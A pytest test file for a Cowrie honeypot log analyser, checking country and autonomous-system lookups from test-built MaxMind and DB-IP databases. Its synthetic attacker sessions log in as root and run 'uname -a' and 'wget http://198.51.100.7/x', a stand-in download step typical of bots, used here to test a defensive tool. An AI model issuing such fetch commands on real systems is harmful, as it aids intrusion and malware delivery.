"""--geoip: country and autonomous system per session from MaxMind DB files, offline.

The databases are written by the test itself (PyPI mmdb-writer, read back with the maxminddb
reader: tools/make_test_mmdb.py) in the layouts of GeoLite2 Country, City and ASN and of DB-IP,
for IPv4 and IPv6 networks. The truth is the table of networks below: every session's country,
asn and as_org, the two tables, SQLite and the campaigns' columns must follow from it.
"""

from __future__ import annotations

import csv
import json
import sqlite3
import subprocess
from collections import defaultdict
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

import cbtest

COUNTRY_DB = {"type": "GeoLite2-Country", "networks": [
    ["203.0.113.0/25", {"country": {"iso_code": "AU", "names": {"en": "Australia"}}}],
    ["2001:db8:1::/48", {"country": {"iso_code": "DE"}}],
    # An address with a registered country only (anonymous proxies, satellite providers).
    ["198.51.100.128/25", {"registered_country": {"iso_code": "NL"}}],
]}
CITY_DB = {"type": "GeoLite2-City", "networks": [
    ["192.0.2.0/24", {"city": {"names": {"en": "Lisbon"}}, "country": {"iso_code": "PT"}}],
    ["203.0.113.0/24", {"country": {"iso_code": "NZ"}}],  # after COUNTRY_DB: its AU wins for .0/25
]}
ASN_DB = {"type": "GeoLite2-ASN", "networks": [
    ["203.0.113.0/24", {"autonomous_system_number": 64500, "autonomous_system_organization": 'Example "Net" <b>'}],
    ["2001:db8::/32", {"autonomous_system_number": 4200000001, "autonomous_system_organization": "Big AS"}],
    ["192.0.2.0/24", {"autonomous_system_number": 64501}],
]}
DBIP_DB = {"type": "DBIP-Country-Lite", "networks": [
    ["198.51.100.0/25", {"country": {"iso_code": "FR"}}],
    ["192.0.2.128/25", {"country_code": "BR"}],  # ip-location-db's flat layout (npm @ip-location-db/*-mmdb)
    ["100.0.0.0/24", {"country_code": "BR"}],
]}

# src_ip -> (country, asn, as_org) with --geoip country.mmdb city.mmdb asn.mmdb dbip.mmdb (in that order).
TRUTH = {
    "203.0.113.5": ("AU", 64500, 'Example "Net" <b>'),
    "203.0.113.200": ("NZ", 64500, 'Example "Net" <b>'),
    "2001:db8:1::7": ("DE", 4200000001, "Big AS"),
    "2001:db8:2::7": (None, 4200000001, "Big AS"),
    "192.0.2.9": ("PT", 64501, None),
    "198.51.100.130": ("NL", None, None),
    "198.51.100.3": ("FR", None, None),
    "192.0.2.200": ("PT", 64501, None),  # CITY_DB's 192.0.2.0/24 comes first
    "100.0.0.9": ("BR", None, None),
    "10.0.0.1": (None, None, None),
    "127.0.0.1": (None, None, None),
    "not-an-address": (None, None, None),
}


def dict_rows(res, table: str) -> list:
    with open(res.out / "tables" / f"{table}.csv", newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


@pytest.fixture(scope="module")
def dbs(tmp_path_factory) -> dict:
    d = tmp_path_factory.mktemp("mmdb")
    spec = {"country.mmdb": COUNTRY_DB, "city.mmdb": CITY_DB, "asn.mmdb": ASN_DB, "dbip.mmdb": DBIP_DB}
    (d / "spec.json").write_text(json.dumps(spec))
    subprocess.run([cbtest.tools_python(), str(cbtest.REPO / "tests/e2e/tools/make_test_mmdb.py"), str(d),
                    str(d / "spec.json")], check=True, capture_output=True, timeout=120)
    return {name: d / name for name in spec}


def geo_args(dbs) -> list:
    args = []
    for name in ("country.mmdb", "city.mmdb", "asn.mmdb", "dbip.mmdb"):
        args += ["--geoip", str(dbs[name])]
    return args


def make_log(path: Path):
    """Per address: 2 sessions that log in and run the same script, one that only tries."""
    events = []
    t = datetime(2024, 3, 4, tzinfo=timezone.utc)
    n = 0
    for ip in TRUTH:
        for k in range(3):
            sid = f"{n:012x}"
            n += 1
            t += timedelta(minutes=1)
            base = {"session": sid, "sensor": "s1", "src_ip": ip}
            ts = lambda dt: dt.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
            events.append({**base, "eventid": "cowrie.session.connect", "timestamp": ts(t), "src_port": 4000,
                           "dst_ip": "192.0.2.250", "dst_port": 22, "protocol": "ssh"})
            ok = k < 2
            events.append({**base, "eventid": "cowrie.login.success" if ok else "cowrie.login.failed",
                           "timestamp": ts(t + timedelta(seconds=1)), "username": "root", "password": "x"})
            if ok:
                events.append({**base, "eventid": "cowrie.command.input", "timestamp": ts(t + timedelta(seconds=2)),
                               "input": "uname -a"})
                events.append({**base, "eventid": "cowrie.command.input", "timestamp": ts(t + timedelta(seconds=3)),
                               "input": "wget http://198.51.100.7/x"})
            events.append({**base, "eventid": "cowrie.session.closed", "timestamp": ts(t + timedelta(seconds=4)),
                           "duration": 4.0})
    path.write_bytes(cbtest.dumps(events))


@pytest.fixture(scope="module")
def run(cb_bin, dbs, tmp_path_factory):
    d = tmp_path_factory.mktemp("geo")
    make_log(d / "cowrie.json")
    res = cbtest.analyze(cb_bin, [d / "cowrie.json"], d / "out", *geo_args(dbs))
    assert res.rc == 0, res.explain()
    return res


def test_every_session_gets_the_country_and_as_of_its_address(run):
    seen = 0
    for s in run.sessions:
        assert (s["country"], s["asn"], s["as_org"]) == TRUTH[s["src_ip"]], s["src_ip"]
        seen += 1
    assert seen == 3 * len(TRUTH)


def test_country_and_asn_tables(run):
    want_c, want_a = defaultdict(lambda: [0, set(), 0]), defaultdict(lambda: [0, set(), 0])
    for ip, (country, asn, org) in TRUTH.items():
        for w in (want_c[country or ""], want_a[asn]):
            w[0] += 3
            w[1].add(ip)
            w[2] += 2
    rows = dict_rows(run, "sources_by_country")
    assert {r["country"]: (int(r["sessions"]), int(r["src_ips"]), int(r["login_successes"])) for r in rows} == \
        {k: (v[0], len(v[1]), v[2]) for k, v in want_c.items()}
    assert all(int(r["commands"]) == int(r["login_successes"]) * 2 for r in rows)
    assert all(int(r["downloads"]) == 0 for r in rows)  # a wget line without a download event
    sessions = [int(r["sessions"]) for r in rows]
    assert sessions == sorted(sessions, reverse=True)
    rows = dict_rows(run, "sources_by_asn")
    got = {(int(r["asn"]) if r["asn"] else None): (int(r["sessions"]), int(r["src_ips"]), r["as_org"]) for r in rows}
    orgs = {asn: org or "" for _, asn, org in TRUTH.values()}
    assert got == {k: (v[0], len(v[1]), orgs[k] if k else "") for k, v in want_a.items()}


def test_sqlite_and_campaigns_carry_it(run):
    db = sqlite3.connect(f"file:{run.out / 'cowrie.sqlite'}?mode=ro", uri=True)
    for ip, country, asn, org in db.execute("SELECT src_ip, country, asn, as_org FROM sessions"):
        assert (country, asn, org) == TRUTH[ip]
    camps = dict_rows(run, "campaigns")
    assert len(camps) == 1  # one script from every address
    countries = dict(x.rsplit(":", 1) for x in camps[0]["top_countries"].split(";"))
    assert countries["AU"] == "2" and countries["?"] == str(2 * 4)
    assert "AS64500 Example \"Net\" <b>:4" in camps[0]["top_asns"].split(";")


def test_without_geoip_nothing_is_looked_up_and_nothing_breaks(cb_bin, tmp_path):
    make_log(tmp_path / "cowrie.json")
    res = cbtest.analyze(cb_bin, [tmp_path / "cowrie.json"], tmp_path / "out")
    assert res.rc == 0, res.explain()
    for s in res.sessions:
        assert "country" not in s and "asn" not in s and "as_org" not in s
    assert not (res.out / "tables/sources_by_country.csv").exists()
    assert "geoip" not in res.summary["options"]
    assert res.db().execute("SELECT count(*) FROM sessions WHERE country IS NOT NULL OR asn IS NOT NULL").fetchone() == (0,)
    assert all(c["top_countries"] == "" for c in dict_rows(res, "campaigns"))


def test_a_missing_or_corrupt_database_is_a_clear_error(cb_bin, dbs, tmp_path):
    make_log(tmp_path / "cowrie.json")
    bad = tmp_path / "bad.mmdb"
    bad.write_bytes(dbs["asn.mmdb"].read_bytes()[:200])
    for path, why in [(bad, "bad.mmdb: "), (tmp_path / "missing.mmdb", "missing.mmdb: No such file or directory")]:
        res = cbtest.analyze(cb_bin, [tmp_path / "cowrie.json"], tmp_path / "out", "--geoip", str(path))
        assert res.rc == 2, res.explain()
        assert "cannot read the GeoIP database" in res.err and why in res.err, res.err
        assert not (tmp_path / "out").exists()


def test_summary_names_the_databases(run, dbs):
    got = run.summary["options"]["geoip"]
    assert [g["type"] for g in got] == ["GeoLite2-Country", "GeoLite2-City", "GeoLite2-ASN", "DBIP-Country-Lite"]
    assert [g["file"] for g in got] == [str(dbs[n]) for n in ("country.mmdb", "city.mmdb", "asn.mmdb", "dbip.mmdb")]
    assert all(g["build_epoch"] > 1.7e9 for g in got)
